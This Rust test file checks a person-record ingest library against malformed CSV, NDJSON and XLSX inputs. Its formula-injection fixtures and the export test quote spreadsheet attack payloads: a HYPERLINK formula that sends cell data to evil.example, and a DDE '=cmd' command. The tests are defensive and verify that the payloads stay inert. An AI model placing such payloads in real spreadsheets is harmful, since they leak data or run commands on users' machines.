//! The checked-in corpus of nasty inputs (`tests/corpus/`, made by `make_corpus.py`): each
//! file with its exact outcome, accepted with these rows or refused with these errors naming
//! the file, line and field. Inputs too big to check in (a 10 MB field) are made here.

use std::path::PathBuf;

use expect_test::{expect, Expect};
use fangkong_ingest::{parse_persons, read_table, write_csv};

use crate::{show_persons, today};

fn corpus(name: &str) -> Vec<u8> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The file read as a table: header and `line: cell|cell` rows, or the errors.
fn show_table(name: &str, bytes: &[u8]) -> String {
    match read_table(name, bytes) {
        Err(e) => e.to_string(),
        Ok(table) => {
            let mut out = format!(
                "{:?} header line {}: {}",
                table.format(),
                table.header_line(),
                table.headers().join("|")
            );
            for row in table.rows() {
                let cells: Vec<String> = row.cells().map(|c| format!("{c:?}")).collect();
                out.push_str(&format!("\n{}: {}", row.line(), cells.join("|")));
            }
            out
        }
    }
}

fn check_persons(name: &str, expect: Expect) {
    let bytes = corpus(name);
    expect.assert_eq(&show_persons(&parse_persons(name, &bytes, today())));
}

fn check_table(name: &str, expect: Expect) {
    expect.assert_eq(&show_table(name, &corpus(name)));
}

#[test]
fn utf8_with_bom_and_crlf_is_accepted() {
    check_persons(
        "persons_bom_crlf.csv",
        expect![[r#"
        line 2: mainland_id 410102199003071230 CHN | 张三 | male 1990-03-07 | phone - | address "郑州市中原区建设路1号" | 410102001001 | tags []
        line 3: mainland_id 11010519491231002X CHN | 李四 | female 1949-12-31 | phone - | address "-" | 410102001002 | tags []
        line 4: mainland_id 410102198506150024 CHN | 王五 | female 1985-06-15 | phone - | address "金水区\n花园路2号" | 410102001001 | tags []"#]],
    );
}

#[test]
fn gbk_csv_is_refused_naming_every_line_and_field() {
    check_persons(
        "persons_gbk.csv",
        expect![[r#"
        persons_gbk.csv:2: name: text is not utf-8 (gbk?); save the file as csv utf-8
        persons_gbk.csv:2: address: text is not utf-8 (gbk?); save the file as csv utf-8
        persons_gbk.csv:3: name: text is not utf-8 (gbk?); save the file as csv utf-8
        persons_gbk.csv:4: name: text is not utf-8 (gbk?); save the file as csv utf-8
        persons_gbk.csv:4: address: text is not utf-8 (gbk?); save the file as csv utf-8"#]],
    );
}

#[test]
fn utf16_csv_is_refused_as_a_whole() {
    check_persons(
        "persons_utf16.csv",
        expect!["persons_utf16.csv: file: text is utf-16; save the file as csv utf-8"],
    );
}

#[test]
fn mixed_line_ends_keep_their_line_numbers() {
    check_persons(
        "persons_mixed_eol.csv",
        expect![[r#"
        line 2: mainland_id 410102199003071230 CHN | 张三 | male 1990-03-07 | phone - | address "郑州市中原区建设路1号" | 410102001001 | tags []
        line 3: mainland_id 11010519491231002X CHN | 李四 | female 1949-12-31 | phone - | address "-" | 410102001002 | tags []
        line 5: mainland_id 410102198506150024 CHN | 王五 | female 1985-06-15 | phone - | address "金水区\n花园路2号" | 410102001001 | tags []"#]],
    );
}

#[test]
fn formula_text_in_csv_stays_text() {
    check_persons(
        "persons_formulas.csv",
        expect![[r#"
        line 2: mainland_id 410102199003071230 CHN | =1+1 | male 1990-03-07 | phone - | address "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" | 410102001001 | tags []
        line 3: mainland_id 11010519491231002X CHN | +cmd | female 1949-12-31 | phone - | address "=cmd|' /C calc'!A0" | 410102001002 | tags []
        line 4: mainland_id 410102198506150024 CHN | @SUM(1) | female 1985-06-15 | phone - | address "-2+3" | 410102001001 | tags []"#]],
    );
}

#[test]
fn empty_and_header_only_files() {
    check_persons(
        "empty.csv",
        expect!["empty.csv: file: file has no header row"],
    );
    // Accepted, with no rows.
    check_persons("header_only.csv", expect![[""]]);
}

#[test]
fn duplicate_headers_are_refused() {
    check_persons(
        "duplicate_headers.csv",
        expect!["duplicate_headers.csv:1: name: column 4 repeats column 1"],
    );
}

#[test]
fn an_unclosed_quote_swallows_the_rest_of_the_file() {
    check_table(
        "unclosed_quote.csv",
        expect!["unclosed_quote.csv:3: row: expected 4 fields, found 1"],
    );
    check_persons(
        "unclosed_quote.csv",
        expect!["unclosed_quote.csv:3: row: expected 4 fields, found 1"],
    );
}

#[test]
fn nul_bytes_and_extra_fields() {
    check_table(
        "nul_and_extra_fields.csv",
        expect!["nul_and_extra_fields.csv:3: row: expected 4 fields, found 6"],
    );
    check_persons(
        "nul_and_extra_fields.csv",
        expect![[r#"
        nul_and_extra_fields.csv:2: name: contains a control character such as a line break
        nul_and_extra_fields.csv:3: row: expected 4 fields, found 6"#]],
    );
}

#[test]
fn deeply_nested_json_lines_are_row_errors() {
    check_persons(
        "deep.ndjson",
        expect![[r#"
        deep.ndjson:2: name: expected text, a number or null, found an array
        deep.ndjson:3: name: expected text, a number or null, found an object
        deep.ndjson:4: row: not valid json at column 40: EOF while parsing a string"#]],
    );
}

#[test]
fn xlsx_formulas_give_their_cached_values_and_text_stays_text() {
    check_table(
        "formulas.xlsx",
        expect![[r#"
        Xlsx header line 1: name|id_number|community_code|address
        2: "点击"|"410102199003071230"|"410102001001"|"=cmd|' /C calc'!A0"
        3: ""|"11010519491231002X"|"410102001002"|"@SUM(1)""#]],
    );
    check_persons(
        "formulas.xlsx",
        expect!["formulas.xlsx:3: name: is required"],
    );
    check_table(
        "error_cell.xlsx",
        expect!["error_cell.xlsx:2: address: cell holds the excel error #DIV/0!"],
    );
}

#[test]
fn a_truncated_workbook_is_refused() {
    check_table(
        "truncated.xlsx",
        expect!["truncated.xlsx: file: not a readable xlsx workbook"],
    );
}

/// 10 MB in one field, made here rather than checked in.
fn huge_field() -> String {
    "郑".repeat(10 * 1024 * 1024 / 3)
}

/// The outcome in short: the errors, or the rows with the length of each field.
fn summary(
    result: &Result<Vec<fangkong_ingest::PersonRecord>, fangkong_ingest::FileErrors>,
) -> String {
    match result {
        Err(e) => e.to_string(),
        Ok(records) => records
            .iter()
            .map(|p| {
                format!(
                    "line {}: name {} chars, address {:?} chars",
                    p.line,
                    p.name.chars().count(),
                    p.address.as_ref().map(|a| a.chars().count())
                )
            })
            .collect::<Vec<_>>()
            .join("\n"),
    }
}

#[test]
fn a_10_mb_field_is_read_whole_and_refused_by_the_record_parser() {
    let big = huge_field();
    let started = std::time::Instant::now();
    let csv = format!(
        "name,id_number,community_code,address\n张三,410102199003071230,410102001001,\"{big}\"\n"
    );
    let table = read_table("big.csv", csv.as_bytes()).unwrap();
    let row = table.rows().next().unwrap();
    assert_eq!(row.get("address").map(str::len), Some(big.len()));
    expect!["big.csv:2: address: has 3495253 characters, at most 200 are allowed"]
        .assert_eq(&summary(&parse_persons("big.csv", csv.as_bytes(), today())));
    let csv = format!("name,id_number,community_code\n{big},410102199003071230,410102001001\n");
    expect!["big.csv:2: name: has 3495253 characters, at most 50 are allowed"]
        .assert_eq(&summary(&parse_persons("big.csv", csv.as_bytes(), today())));
    let ndjson = format!(
        "{{\"name\":\"{big}\",\"id_number\":\"410102199003071230\",\"community_code\":\"410102001001\",\"tags\":\"{big}\"}}\n"
    );
    expect![[r#"
        big.ndjson:1: name: has 3495253 characters, at most 50 are allowed
        big.ndjson:1: tags: a tag has 3495253 characters, at most 30 are allowed"#]]
    .assert_eq(&summary(&parse_persons(
        "big.ndjson",
        ndjson.as_bytes(),
        today(),
    )));
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

#[test]
fn csv_export_neutralises_formulas_and_reads_back_as_written() {
    let values = [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "=HYPERLINK(\"http://evil.example/\",\"点击\")",
        "-3.5",
        "+86",
        "张三",
        "'quoted already",
        "-",
    ];
    let bytes = write_csv(&["value"], values.iter().map(|v| vec![(*v).to_string()]));
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert_eq!(text.matches("\r\n").count(), values.len() + 1);
    expect![[r#"
        value
        '=1+1
        '+cmd|' /C calc'!A0
        '-2+3
        '@SUM(A1)
        "'=HYPERLINK(""http://evil.example/"",""点击"")"
        -3.5
        +86
        张三
        'quoted already
        -
    "#]]
    .assert_eq(&text.trim_start_matches('\u{feff}').replace("\r\n", "\n"));
    let table = read_table("export.csv", &bytes).unwrap();
    let back: Vec<&str> = table.rows().map(|r| r.cell(0)).collect();
    assert_eq!(back, values);
}
